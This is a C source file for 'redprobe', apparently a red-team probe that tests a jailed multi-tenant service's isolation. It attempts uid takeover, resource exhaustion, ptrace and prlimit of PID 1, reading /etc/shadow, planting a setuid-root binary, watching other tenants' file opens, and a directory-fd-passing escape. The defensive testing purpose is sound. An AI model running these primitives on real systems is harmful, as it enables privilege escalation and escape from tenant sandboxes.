/* redprobe - red-team attacks of issue 11 (second round) run as a hostile
 * service, the ones probe.c lacks. Static: needs nothing in a jail.
 *
 *   redprobe nproc UID GID N SECS  a root service takes another customer's
 *                                  uid and holds up to N processes of it
 *   redprobe reaper                signal 0, ptrace, prlimit of PID 1
 *   redprobe read PATH             open PATH, print its first bytes
 *   redprobe whoami                ids, and whether /etc/shadow opens
 *   redprobe plant PATH            copy itself to PATH, set-uid root
 *   redprobe mkdirs PATH           mkdir -p PATH (0755)
 *   redprobe fdread REL            every inherited fd from 3 on that is a
 *                                  directory: openat(fd, REL) and print it
 *   redprobe inotify SECS [UID]    [take UID, then] create inotify instances
 *                                  until refused, hold them SECS seconds
 *   redprobe watch PATH SECS       inotify on PATH for SECS seconds: print
 *                                  each open seen (another tenant's use of a
 *                                  shared file)
 *   redprobe lease PATH SECS       a write lease on PATH (owner or
 *                                  CAP_LEASE): print when another opener
 *                                  breaks it, hold it SECS seconds
 *   redprobe fdsend SOCK SECS      a unix socket at SOCK: to the first
 *                                  peer, its root directory ("/", O_PATH)
 *                                  by SCM_RIGHTS; held until the peer is
 *                                  done or SECS seconds
 *   redprobe fdclimb SOCK REL      connect to SOCK (up to 5 s), receive a
 *                                  directory: openat(it, REL) and print
 *                                  its first bytes (".." climbs from
 *                                  another process's root)
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <poll.h>
#include <time.h>
#include <unistd.h>

static const char *er(long rc)
{
    return rc < 0 ? strerror(errno) : "ok";
}

static void nproc(uid_t u, gid_t g, int n, int secs)
{
    int k = 0, err = 0;
    printf("setgroups=%s\n", er(setgroups(0, NULL)));
    printf("setresgid=%s\n", er(setresgid(g, g, g)));
    printf("setresuid=%s\n", er(setresuid(u, u, u)));
    for (; k < n; k++) {
        pid_t p = fork();
        if (p == 0) {
            sleep((unsigned)secs);
            _exit(0);
        }
        if (p < 0) {
            err = errno;
            break;
        }
    }
    printf("forked=%d as_uid=%d stopped_by=%s\n", k, (int)u, err ? strerror(err) : "count");
    fflush(stdout);
    sleep((unsigned)secs);
}

static void reaper(void)
{
    struct rlimit rl, low = {1, 1};
    printf("kill1_0=%s\n", er(kill(1, 0)));
    printf("ptrace1=%s\n", er(ptrace(PTRACE_ATTACH, 1, NULL, NULL)));
    printf("prlimit1_get=%s\n", er(prlimit(1, RLIMIT_NOFILE, NULL, &rl)));
    printf("prlimit1_set_cpu=%s\n", er(prlimit(1, RLIMIT_CPU, &low, NULL)));
}

static void inotify(int secs, const char *uid)
{
    if (uid) {
        uid_t u = (uid_t)atoi(uid);
        printf("setresuid=%s\n", er(setgroups(0, NULL) < 0 || setresgid(u, u, u) < 0 ? -1 : setresuid(u, u, u)));
    }
    int k = 0;
    while (k < 100000 && inotify_init1(IN_CLOEXEC) >= 0)
        k++;
    printf("inotify_instances=%d stopped_by=%s\n", k, strerror(errno));
    fflush(stdout);
    sleep((unsigned)secs);
}

static void watch(const char *path, int secs)
{
    int fd = inotify_init1(IN_CLOEXEC);
    int wd = fd < 0 ? -1 : inotify_add_watch(fd, path, IN_OPEN | IN_ACCESS);
    printf("watch=%s\n", er(wd));
    fflush(stdout);
    if (wd < 0)
        return;
    time_t end = time(NULL) + secs;
    int opens = 0;
    while (time(NULL) < end) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0)
            continue;
        char b[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
        ssize_t n = read(fd, b, sizeof b);
        for (ssize_t i = 0; i < n;) {
            const struct inotify_event *ev = (const struct inotify_event *)(b + i);
            if (ev->mask & IN_OPEN)
                printf("seen_open=%d\n", ++opens);
            i += (ssize_t)sizeof *ev + ev->len;
        }
    }
    printf("opens_seen=%d\n", opens);
}

static volatile sig_atomic_t lease_broken;
static void on_lease(int sig)
{
    (void)sig;
    lease_broken = 1;
}

static void lease(const char *path, int secs)
{
    signal(SIGIO, on_lease);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int rc = fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_WRLCK);
    printf("lease=%s\n", er(rc));
    fflush(stdout);
    if (rc < 0)
        return;
    time_t end = time(NULL) + secs;
    while (time(NULL) < end && !lease_broken)
        usleep(50000);
    printf("lease_broken=%d\n", (int)lease_broken);
    fflush(stdout);
    /* hold the open up to the end: the other opener waits */
    while (time(NULL) < end)
        usleep(50000);
}

static void mkdirs(char *path)
{
    for (char *p = path + 1;; p++) {
        if (*p == '/' || *p == '\0') {
            char c = *p;
            *p = '\0';
            if (mkdir(path, 0755) < 0 && errno != EEXIST) {
                printf("mkdir %s=%s\n", path, strerror(errno));
                return;
            }
            *p = c;
            if (c == '\0')
                break;
        }
    }
    printf("mkdirs=ok\n");
}

/* REL below the directory fd: "PREFIX_read=ok data=..." (newlines made
 * spaces) or "PREFIX_read=<error>" */
static void read_below(int fd, const char *rel, const char *prefix)
{
    int f = openat(fd, rel, O_RDONLY);
    char b[200] = "";
    ssize_t n = f < 0 ? -1 : read(f, b, sizeof b - 1);
    for (ssize_t i = 0; i < n; i++)
        if (b[i] == '\n')
            b[i] = ' ';
    printf("%s_read=%s data=%s\n", prefix, f < 0 ? strerror(errno) : "ok", n > 0 ? b : "");
    if (f >= 0)
        close(f);
}

static void fdread(const char *rel)
{
    for (int fd = 3; fd < 64; fd++) {
        struct stat st;
        if (fstat(fd, &st) < 0)
            continue;
        printf("fd%d=%s\n", fd, S_ISDIR(st.st_mode) ? "dir" : "other");
        if (!S_ISDIR(st.st_mode))
            continue;
        char prefix[16];
        snprintf(prefix, sizeof prefix, "fd%d", fd);
        read_below(fd, rel, prefix);
    }
    printf("fdread=done\n");
}

static void readpath(const char *path)
{
    char b[200] = "";
    int fd = open(path, O_RDONLY);
    printf("read=%s", fd < 0 ? strerror(errno) : "ok");
    ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
    for (ssize_t i = 0; i < n; i++)
        if (b[i] == '\0' || b[i] == '\n')
            b[i] = ' ';
    printf(" data=%s\n", n > 0 ? b : "");
}

static void plant(const char *path)
{
    int in = open("/proc/self/exe", O_RDONLY);
    if (in < 0)
        in = open("/bin/redprobe", O_RDONLY);
    int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) {
        printf("plant=%s\n", strerror(errno));
        return;
    }
    char b[65536];
    ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0)
        if (write(out, b, (size_t)n) != n)
            break;
    printf("chown=%s\n", er(fchown(out, 0, 0)));
    printf("chmod=%s\n", er(fchmod(out, 04755)));
    close(out);
}

static int unix_addr(const char *path, struct sockaddr_un *a)
{
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    if (strlen(path) >= sizeof a->sun_path)
        return -1;
    strcpy(a->sun_path, path);
    return 0;
}

static void fdsend(const char *sock, int secs)
{
    struct sockaddr_un a;
    int root = open("/", O_PATH | O_DIRECTORY);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    unlink(sock);
    if (root < 0 || s < 0 || unix_addr(sock, &a) < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 ||
        chmod(sock, 0777) < 0 || listen(s, 1) < 0) {
        printf("fdsend=%s\n", strerror(errno));
        return;
    }
    printf("fdsend=listening\n");
    alarm((unsigned)secs);
    int c = accept(s, NULL, NULL);
    if (c < 0) {
        printf("fdsend=%s\n", strerror(errno));
        return;
    }
    char byte = 'd', ctl[CMSG_SPACE(sizeof(int))];
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    memset(ctl, 0, sizeof ctl);
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &root, sizeof root);
    printf("fdsend=%s\n", sendmsg(c, &m, 0) < 0 ? strerror(errno) : "sent");
    /* the sender's namespace lives until the peer is done */
    while (read(c, &byte, 1) > 0)
        ;
}

static void fdclimb(const char *sock, const char *rel)
{
    struct sockaddr_un a;
    int s = socket(AF_UNIX, SOCK_STREAM, 0), k;
    if (s < 0 || unix_addr(sock, &a) < 0) {
        printf("fdclimb=%s\n", strerror(errno));
        return;
    }
    for (k = 0; k < 100 && connect(s, (struct sockaddr *)&a, sizeof a) < 0; k++)
        usleep(50000);
    if (k == 100) {
        printf("fdclimb_connect=%s\n", strerror(errno));
        return;
    }
    char byte, ctl[CMSG_SPACE(sizeof(int))];
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    struct cmsghdr *h;
    int fd = -1;
    if (recvmsg(s, &m, 0) < 1 || !(h = CMSG_FIRSTHDR(&m)) || h->cmsg_type != SCM_RIGHTS) {
        printf("fdclimb_got=%s\n", "none");
        return;
    }
    memcpy(&fd, CMSG_DATA(h), sizeof fd);
    printf("fdclimb_got=ok\n");
    read_below(fd, rel, "fdclimb");
}

int main(int argc, char **argv)
{
    const char *w = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("redprobe=%s pid=%d uid=%d euid=%d\n", w, (int)getpid(), (int)getuid(), (int)geteuid());
    if (strcmp(w, "nproc") == 0 && argc > 5)
        nproc((uid_t)atoi(argv[2]), (gid_t)atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
    else if (strcmp(w, "reaper") == 0)
        reaper();
    else if (strcmp(w, "read") == 0 && argc > 2)
        readpath(argv[2]);
    else if (strcmp(w, "whoami") == 0)
        printf("shadow=%s\n", open("/etc/shadow", O_RDONLY) < 0 ? strerror(errno) : "READ");
    else if (strcmp(w, "mkdirs") == 0 && argc > 2)
        mkdirs(argv[2]);
    else if (strcmp(w, "fdread") == 0 && argc > 2)
        fdread(argv[2]);
    else if (strcmp(w, "inotify") == 0 && argc > 2)
        inotify(atoi(argv[2]), argc > 3 ? argv[3] : NULL);
    else if (strcmp(w, "plant") == 0 && argc > 2)
        plant(argv[2]);
    else if (strcmp(w, "watch") == 0 && argc > 3)
        watch(argv[2], atoi(argv[3]));
    else if (strcmp(w, "lease") == 0 && argc > 3)
        lease(argv[2], atoi(argv[3]));
    else if (strcmp(w, "fdsend") == 0 && argc > 3)
        fdsend(argv[2], atoi(argv[3]));
    else if (strcmp(w, "fdclimb") == 0 && argc > 3)
        fdclimb(argv[2], argv[3]);
    else {
        printf("usage=redprobe nproc UID GID N SECS|reaper|read PATH|whoami|plant PATH|mkdirs PATH|fdread REL|inotify "
               "SECS [UID]|watch PATH SECS|lease PATH SECS|fdsend SOCK SECS|fdclimb SOCK REL\n");
        return 2;
    }
    return 0;
}
